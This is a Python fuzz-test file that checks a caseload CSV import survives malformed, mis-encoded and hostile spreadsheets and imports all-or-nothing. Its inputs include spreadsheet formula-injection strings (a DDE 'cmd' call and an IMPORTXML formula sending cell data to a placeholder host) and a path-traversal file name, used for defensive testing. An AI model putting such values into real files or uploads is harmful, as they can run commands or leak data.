"""Fuzzing the caseload import with files: any bytes, any text, and spreadsheets saved as CSV with odd headings,
delimiters, encodings, quotes, formulas, dates and junk in their cells, cut short or spoilt. For every file:
never a 5xx; a refused file says why and stores nothing; an upload that is read previews, and its import
makes every new case the preview showed or none of them, with what is stored still what the app allows.

Examples per test: the Hypothesis profile's (tests/fuzz_strategies.py: 200, or 50 on PostgreSQL).
"""
import csv
import io

import pytest
from hypothesis import event, given, note
from hypothesis import strategies as st
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from kiosk.audit import AuditEvent
from kiosk.cases.import_rows import TEMPLATE_COLUMNS, guess_columns
from kiosk.cases.importing import CaseloadImport
from kiosk.cases.models import ActionPlanItem, Case, FamilyMember, PLAN_AREAS, REFERRAL_SOURCES

from ..factories import PASSWORD, make_case, make_staff
from ..fuzz_strategies import HOSTILE, JUNK, TEXT, day, person, phone
from ..fuzz_world import rolled_back, stored_values_are_valid

pytestmark = pytest.mark.slow

HEADINGS = st.sampled_from(TEMPLATE_COLUMNS + ["First name", "Surname", "DOB", "Mobile", "Prison", "Liberation date",
                                               "Worker", "Notes", "Full name", "Date of Birth (dd/mm/yyyy)", ""])
FORMULAS = st.sampled_from(["=1+1", "=HYPERLINK(\"http://x\")", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "'=A1",
                            "=IMPORTXML(CONCAT(\"http://x/?\", A1))", "\t=1", "+44 7700 900123", "-"])
CELLS = st.one_of(
    person(100), day(), phone(), JUNK, FORMULAS, st.sampled_from(HOSTILE),
    st.sampled_from(["yes", "no", "Y", "", "active", "Referred", "closed", "kim", "Kim Worker", "GTC-0001", "EXAMPLE",
                     "Alex Morgan", "01/05/1990", "31/02/1985", "12/31/1985", "31/12/85", "1 May 1990", "Accommodation; health",
                     "Education, training and employment", "Mother", "HMP Barlinnie", *PLAN_AREAS, *REFERRAL_SOURCES]),
    st.text(TEXT, max_size=30).map(lambda t: t + "\n" + t),  # a cell over two lines
)
ENCODINGS = st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"])


@st.composite
def spreadsheets(draw):
    """A spreadsheet saved as CSV, as a person's file might come: bytes, and how they were made."""
    header = draw(st.lists(HEADINGS | st.text(TEXT, max_size=20), min_size=1, max_size=10))
    rows = draw(st.lists(st.lists(CELLS, max_size=len(header) + 2), max_size=12))
    delimiter = draw(st.sampled_from([",", ",", ";", "\t"]))
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])),
                        lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(ENCODINGS)
    raw = out.getvalue().encode(encoding, errors="replace")
    spoil = draw(st.sampled_from(["none", "none", "none", "cut", "bytes", "quote"]))
    if spoil == "cut":
        raw = raw[:draw(st.integers(0, len(raw)))]
    elif spoil == "bytes":
        at = draw(st.integers(0, len(raw)))
        raw = raw[:at] + draw(st.binary(min_size=1, max_size=8)) + raw[at:]
    elif spoil == "quote":
        raw += b'"unclosed,' + raw[-20:]
    note(f"{encoding}, delimiter {delimiter!r}, spoilt: {spoil}")
    return raw


@pytest.fixture
def manager(app, client):
    """Signed in as a manager, with a keyworker and a case already here for the files to name."""
    worker = make_staff("keyworker", "kim", "Kim Worker")
    make_case(worker, name="Alex Morgan", reference="GTC-0001", keyworker=worker)
    make_staff("manager", "boss")
    assert client.post("/login", data={"username": "boss", "password": PASSWORD}).status_code == 302
    return client


def counts():
    return (Case.select().count(), ActionPlanItem.select().count(), FamilyMember.select().count(),
            CaseloadImport.select().count(), AuditEvent.select().where(AuditEvent.action != "view").count())


def upload(client, raw, name):
    boundary, body = encode_multipart(MultiDict({"file": FileStorage(io.BytesIO(raw), name, "file", "text/csv")}))
    return client.post("/cases/import", data=body, content_type=f"multipart/form-data; boundary={boundary}")


def columns_chosen(client, location):
    """The columns screen, sent with its guesses and the first free column for the name where none was guessed."""
    assert client.get(location).status_code == 200
    record = CaseloadImport.select().order_by(CaseloadImport.id.desc()).get()
    header = record.table.header
    chosen = {code: str(index) for code, index in guess_columns(header).items()}
    if "name" not in chosen and "surname" not in chosen:
        free = [i for i in range(len(header)) if str(i) not in chosen.values()]
        if free:
            chosen["name"] = str(free[0])
    response = client.post(location, data=chosen)
    assert response.status_code in (303, 400), response.status_code
    if response.status_code == 400:
        assert 'class="field-error"' in response.get_data(as_text=True)
        return None
    return response.headers["Location"]


def import_whole_or_not_at_all(client, raw, name="caseload.csv"):
    before = counts()
    response = upload(client, raw, name)
    note(f"upload -> {response.status_code} {response.headers.get('Location', '')}")
    assert response.status_code < 500
    if response.status_code != 303:
        assert response.status_code == 400, response.status_code
        assert 'class="field-error"' in response.get_data(as_text=True), "a refusal says why"
        assert counts() == before, "a refused file stores nothing"
        event("file refused")
        return
    location = response.headers["Location"]
    if location.endswith("/columns"):
        location = columns_chosen(client, location)
        if location is None:
            event("columns refused")
            return
    preview = client.get(location)
    assert preview.status_code == 200, preview.status_code
    record = CaseloadImport.get_by_id(int(location.rsplit("/", 1)[-1]))
    new, cases = record.new_count, Case.select().count()
    response = client.post(location + "/apply")
    note(f"apply -> {response.status_code}")
    assert response.status_code in (303, 409), response.status_code
    made = Case.select().count() - cases
    assert made in (0, new), f"{made} of {new} cases made: a part of an import"
    if response.status_code == 303 and CaseloadImport.get_by_id(record.id).status == "imported":
        assert made == new and CaseloadImport.get_by_id(record.id).content is None
    event(f"imported, {'some' if made else 'no'} new cases" if response.status_code == 303 else "import refused")
    stored_values_are_valid()
    assert client.get(location).status_code == 200
    assert client.get("/cases/import").status_code == 200


@given(raw=st.binary(max_size=3000))
def test_any_bytes_at_all(manager, raw):
    with rolled_back():
        import_whole_or_not_at_all(manager, raw)


@given(text=st.text(TEXT, max_size=2000), name=st.sampled_from(["caseload.csv", "../../etc/x.csv", "ü.csv", "a\\b.CSV"]))
def test_any_text_at_all(manager, text, name):
    with rolled_back():
        import_whole_or_not_at_all(manager, text.encode("utf-8"), name)


@given(raw=spreadsheets())
def test_spreadsheets_saved_as_csv_with_anything_in_them(manager, raw):
    with rolled_back():
        import_whole_or_not_at_all(manager, raw)

